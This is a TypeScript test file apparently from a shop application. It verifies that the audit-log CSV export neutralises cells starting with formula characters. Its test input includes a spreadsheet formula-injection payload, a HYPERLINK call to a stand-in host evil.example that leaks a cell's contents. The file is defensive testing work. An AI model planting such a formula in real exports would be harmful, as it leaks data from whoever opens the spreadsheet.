/**
 * The audit log's CSV goes through the shop's one CSV writer (app/utils/csv.ts): no cell a spreadsheet
 * would run as a formula, whatever an event's author, target or address.
 */
import { parse } from "csv-parse/sync";
import { expect, it } from "vitest";
import { describeEachDatabase } from "#tests/db.ts";
import { recordAuditAlone } from "./audit.server.ts";
import { AUDIT_CSV_COLUMNS, auditCsvStream } from "./audit-log.server.ts";

const REPRO = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")';

describeEachDatabase("the audit log's CSV export", () => {
  it("neutralises every text cell that starts with = + - @ tab or carriage return", async () => {
    const prefixes = ["=", "+", "-", "@", "\t", "\r"];
    for (const [index, prefix] of prefixes.entries()) {
      await recordAuditAlone(
        {
          actor: { userId: null, email: `${prefix}cmd${index}@shop.example`, role: "owner" },
          origin: { ipAddress: `${prefix}10.0.0.${index}`, requestId: `${prefix}req` },
        },
        {
          action: "test.formula",
          targetType: `${prefix}product`,
          targetId: index === 0 ? REPRO : `${prefix}1`,
        },
      );
    }
    const text = await new Response(auditCsvStream({ action: "test.formula" })).text();
    const rows = parse(text.replace(/^\uFEFF/, ""), { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(prefixes.length);
    for (const row of rows) {
      for (const column of AUDIT_CSV_COLUMNS) expect(row[column], column).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(rows.map((row) => row.target_id)).toContain(`'${REPRO}`);
    expect(rows.map((row) => row.actor).sort()).toEqual(
      prefixes.map((prefix, index) => `'${prefix}cmd${index}@shop.example`).sort(),
    );
  });
});
